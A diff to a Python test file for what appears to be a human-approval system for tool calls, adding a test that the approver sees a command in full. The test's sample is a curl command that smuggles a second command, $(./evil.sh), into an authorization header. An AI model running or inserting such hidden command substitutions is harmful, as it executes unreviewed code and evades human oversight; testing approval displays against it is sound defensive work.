@@ -109,6 +109,19 @@ async def test_a_call_waits_for_its_approval_however_long_that_takes(
         assert heard.progress[0][2] == "waiting for approval on the desk"
 
 
+HIDING = 'curl -H "Authorization: Bearer $(./evil.sh)" http://x'
+
+
+async def test_who_approves_sees_every_character_of_what_runs(desk: RunningDesk, folder: Path) -> None:
+    person = Person(desk)
+    async with session(place(desk, folder, "http"), "2025-11-25") as client:
+        calling = call(client, HIDING)
+        question = await person.sees()
+        assert question.pages[0].detail == f"text: {HIDING}"
+        desk.answer(question.id, [Answer((Approval.ONCE,))])
+        assert said(await calling) == HIDING
+
+
 @both_ways
 @both_eras
 async def test_what_is_denied_comes_with_its_reason(
